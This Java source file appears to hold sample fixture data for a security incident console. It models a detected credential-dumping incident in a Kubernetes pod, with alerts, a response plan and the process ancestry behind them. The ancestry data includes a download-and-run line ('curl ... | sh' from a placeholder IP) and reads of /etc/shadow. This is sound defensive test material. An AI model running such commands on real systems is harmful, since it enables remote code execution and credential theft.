package io.tiercel.functions.console;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.tiercel.functions.json.Json;
import io.tiercel.functions.operate.IncidentStory;
import java.time.Instant;
import java.util.List;

/** Answers of the operator API as in production. Their texts are those of one operator's cluster, or one hostile text everywhere. */
final class SampleData {
    static final String ID = "4f1c9a7be0d2436688a1f0c3d95e7b21";
    private static final Instant NOW = Instant.parse("2026-11-30T03:02:11Z");

    private SampleData() {}

    static ObjectNode object() {
        return Json.MAPPER.createObjectNode();
    }

    static ObjectNode summary(String id, String rule, String priority, String state, String response, long count) {
        ObjectNode summary = object().put("id", id)
                .put("shortId", id.substring(0, 8))
                .put("version", "v-" + id.substring(0, 4))
                .put("rule", rule)
                .put("priority", priority)
                .put("state", state)
                .put("episode", 1)
                .put("count", count)
                .put("verifiedCount", count)
                .put("target", "/etc/shadow")
                .put("host", "ip-10-0-3-17")
                .put("namespace", "payments")
                .put("pod", "checkout-7d9f8b6c5-x2x7q")
                .put("container", "checkout")
                .put("image", "registry.internal/shop/checkout:2.14.1")
                .put("user", "www-data")
                .put("firstSeen", NOW.minusSeconds(2400).toString())
                .put("lastSeen", NOW.toString())
                .put("openedAt", NOW.minusSeconds(2400).toString())
                .putNull("acknowledgedBy")
                .putNull("acknowledgedAt")
                .putNull("assignedTo")
                .put("silenced", false)
                .put("response", response);
        summary.putArray("tactics").add("Credential Access");
        ArrayNode activity = summary.putArray("activity");
        for (int minute = 0; minute < 60; minute++) {
            activity.add(minute < 20 ? 0 : (minute * 7 + count) % 9);
        }
        return summary;
    }

    static ObjectNode detail() {
        ObjectNode detail = summary(ID, "Read sensitive file untrusted", "Critical", "escalated", "waiting", 37);
        detail.put(
                "headline",
                "cat (started by bash in the pod checkout-7d9f8b6c5-x2x7q) read /etc/shadow as www-data; 37 alerts in"
                        + " 40 minutes.");
        detail.putArray("techniques")
                .addObject()
                .put("id", "T1003.008")
                .put("name", "OS Credential Dumping: /etc/passwd and /etc/shadow")
                .put("url", "https://attack.mitre.org/techniques/T1003/008/");
        detail.putArray("doubts")
                .add("The alert names the node ip-10-0-3-17, and the cluster runs the pod on ip-10-0-3-18.");
        ObjectNode enrichment = detail.putObject("enrichment");
        enrichment.putObject("node").put("instance", "i-0a1b2c3d4e5f60718").put("zone", "eu-central-1a");
        enrichment.putObject("workload").put("kind", "Deployment").put("name", "checkout");
        ArrayNode alerts = detail.putArray("alerts");
        alerts.add(alert(NOW, "cat", "4471", "cat /etc/shadow"));
        alerts.add(alert(NOW.minusSeconds(65), "head", "4465", "head -c 512 /etc/shadow"));
        detail.set("plan", plan());
        detail.putArray("comments")
                .addObject()
                .put("at", NOW.minusSeconds(30).toString())
                .put("by", "http:maria")
                .put("text", "The pod belongs to checkout. I ask the team.");
        detail.putArray("notifications")
                .addObject()
                .put("channel", "slack-oncall")
                .put("state", "delivered")
                .put("at", NOW.minusSeconds(2395).toString());
        detail.putArray("audit")
                .addObject()
                .put("at", NOW.minusSeconds(2398).toString())
                .put("by", "tiercel")
                .put("action", "response planned")
                .put("details", "k8s:isolate-pod payments/checkout-7d9f8b6c5-x2x7q waits for approval");
        IncidentStory.addTo(detail);
        detail.putNull("silencedBy");
        return detail;
    }

    private static ObjectNode plan() {
        ObjectNode plan =
                object().put("id", "plan-77aa").put("approvable", true).put("releasable", true);
        ArrayNode steps = plan.putArray("steps");
        steps.addObject()
                .put("index", 0)
                .put("action", "k8s:isolate-pod")
                .put("target", "payments/checkout-7d9f8b6c5-x2x7q")
                .put("state", "waiting")
                .put("mode", "approve")
                .put("note", "Denies all traffic of the pod with a network policy.")
                .put("deadline", "2026-11-30T04:00:00Z")
                .putNull("approvedBy")
                .put("releaseRestores", "The network policies of the namespace, as before.")
                .put("approvable", true)
                .put("releasable", true);
        steps.addObject()
                .put("index", 1)
                .put("action", "ec2:snapshot")
                .put("target", "i-0a1b2c3d4e5f60718")
                .put("state", "applied")
                .put("mode", "auto")
                .put("note", "snap-0123456789abcdef0")
                .putNull("deadline")
                .put("releaseRestores", "Nothing; the snapshot stays.")
                .put("approvable", false)
                .put("releasable", true);
        return plan;
    }

    private static ObjectNode alert(Instant time, String name, String pid, String command) {
        ObjectNode alert = object().put("time", time.toString())
                .put("rule", "Read sensitive file untrusted")
                .put("priority", "Critical")
                .put(
                        "output",
                        "Sensitive file opened for reading by non-trusted program (file=/etc/shadow command=" + command
                                + ")");
        alert.putObject("output_fields")
                .put("proc.name", name)
                .put("proc.cmdline", command)
                .put("fd.name", "/etc/shadow")
                .put("user.name", "www-data")
                .put("container.id", "3f9ab12c77d0");
        ArrayNode ancestors = alert.putObject("context").putArray("ancestors");
        process(ancestors, pid, name, "/usr/bin/" + name, command, "www-data", 120);
        process(
                ancestors,
                "4460",
                "bash",
                "/usr/bin/bash",
                "bash -c 'curl -s http://203.0.113.9/x.sh | sh'",
                "www-data",
                130);
        process(
                ancestors,
                "4402",
                "node",
                "/usr/local/bin/node",
                "node /app/server.js --port 8080",
                "www-data",
                90_000);
        process(
                ancestors,
                "4390",
                "containerd-shim",
                "/usr/bin/containerd-shim-runc-v2",
                "containerd-shim-runc-v2 -namespace k8s.io -id 3f9ab12c77d0",
                "root",
                90_010);
        process(ancestors, "1", "systemd", "/usr/lib/systemd/systemd", "/sbin/init", "root", 900_000);
        return alert;
    }

    private static void process(
            ArrayNode ancestors, String pid, String name, String exe, String command, String user, long age) {
        ancestors
                .addObject()
                .put("pid", pid)
                .put("name", name)
                .put("exe", exe)
                .put("cmdline", command)
                .put("user", user)
                .put("startTime", NOW.minusSeconds(age).toString());
    }

    static JsonNode list() {
        ObjectNode body = object();
        ArrayNode items = body.putArray("items");
        items.add(summary(ID, "Read sensitive file untrusted", "Critical", "escalated", "waiting", 37));
        List<String> rules = List.of(
                "Terminal shell in container",
                "Contact K8S API Server From Container",
                "Drop and execute new binary in container",
                "Log cleared",
                "Packet socket created in container",
                "Clear Log Activities");
        List<String> priorities = List.of("Notice", "Notice", "Critical", "Warning", "Notice", "Warning");
        List<String> responses = List.of("none", "dry-run", "applied", "none", "failed", "none");
        for (int i = 0; i < rules.size(); i++) {
            String id = String.format("%08x%s", 0x1a2b3c4d + i * 7_777, "00112233445566778899aabb");
            ObjectNode item = summary(id, rules.get(i), priorities.get(i), "open", responses.get(i), 3 + i * 11L);
            if (i % 3 == 1) {
                item.put("acknowledgedBy", "http:maria").put("assignedTo", "platform team");
            }
            items.add(item);
        }
        return body.put("next", "c3Vyc29y").put("total", 10_000);
    }

    static JsonNode statistics() {
        ObjectNode body = object().put("open", 6)
                .put("escalated", 1)
                .put("closedToday", 12)
                .put("unacknowledged", 4)
                .put("waitingForApproval", 1)
                .put("alerts", 912);
        body.putObject("nodes").put("total", 3).put("silent", 1);
        return body;
    }

    static JsonNode nodes() {
        ObjectNode body = object();
        ArrayNode items = body.putArray("items");
        for (int i = 0; i < 3; i++) {
            ObjectNode node = items.addObject()
                    .put("node", "ip-10-0-3-1" + (5 + i))
                    .put("state", i == 2 ? "silent" : "reporting")
                    .put("version", "0.3.0")
                    .put("kernel", "6.12.41-amzn2023")
                    .put("lastSeen", NOW.minusSeconds(i * 400L).toString())
                    .put("startedAt", NOW.minusSeconds(500_000).toString())
                    .put("verified", i != 1)
                    .put("rules", 93)
                    .put("eventsPerSecond", 12.4 + 300 * i)
                    .put("filteredPerSecond", 48_211.7)
                    .put("lostEvents", i == 2 ? 17 : 0)
                    .put("alerts", 40 + i)
                    .put("ruleErrors", 0)
                    .put("captureMode", "prefilter on");
            ArrayNode limitations = node.putArray("limitations");
            if (i == 1) {
                limitations
                        .addObject()
                        .put("code", "io_uring")
                        .put("description", "requests of io_uring are not captured");
            }
        }
        return body.putNull("next");
    }

    static JsonNode rules() {
        ObjectNode body = object();
        ArrayNode items = body.putArray("items");
        items.addObject()
                .put("rule", "Contact K8S API Server From Container")
                .put("priority", "Notice")
                .put("incidents", 4)
                .put("alerts", 811)
                .put("lastSeen", NOW.toString())
                .put(
                        "suggestedException",
                        "- rule: Contact K8S API Server From Container\n"
                                + "  exceptions:\n"
                                + "    - name: known_clients\n"
                                + "      fields: [proc.name]\n"
                                + "      comps: [in]\n"
                                + "      values:\n"
                                + "        - [[argocd]]\n"
                                + "  override:\n"
                                + "    exceptions: append\n");
        items.addObject()
                .put("rule", "Log cleared")
                .put("priority", "Warning")
                .put("incidents", 1)
                .put("alerts", 60)
                .put("lastSeen", NOW.toString())
                .putNull("suggestedException");
        return body;
    }

    static JsonNode silences() {
        ObjectNode body = object();
        body.putArray("items")
                .addObject()
                .put("id", "s-1")
                .put("condition", "incident.rule = \"Log cleared\" and k8s.ns.name = build")
                .put("reason", "Planned rotation of logs")
                .put("by", "http:maria")
                .put("createdAt", NOW.minusSeconds(900).toString())
                .put("until", NOW.plusSeconds(6300).toString())
                .put("state", "active")
                .put("withheld", 3);
        return body.putNull("next");
    }

    static JsonNode held() {
        ObjectNode body = object();
        ObjectNode item = body.putArray("items")
                .addObject()
                .put("target", "eni-0f3e5d7c9b1a20344")
                .put("kind", "network interface")
                .put("since", NOW.minusSeconds(600).toString())
                .put("strictest", "ec2:isolate")
                .put("restores", "The security groups sg-0123 and sg-4567.");
        item.putArray("holders").addObject().put("incident", ID).put("action", "ec2:isolate");
        return body.putNull("next");
    }

    static JsonNode killSwitch() {
        return object().put("on", false)
                .put("by", "cli:root")
                .put("at", NOW.toString())
                .put("reason", "Exercise ended");
    }

    static JsonNode audit() {
        ObjectNode body = object();
        body.putArray("items")
                .addObject()
                .put("at", NOW.toString())
                .put("by", "http:maria")
                .put("incident", ID)
                .put("action", "comment")
                .put("details", "The pod belongs to checkout.")
                .put("verification", "not-yet-anchored");
        body.putObject("verification")
                .put("anchoredAt", NOW.toString())
                .put("verifiedAt", NOW.toString())
                .put("findings", 0)
                .putNull("first");
        return body.putNull("next");
    }
}
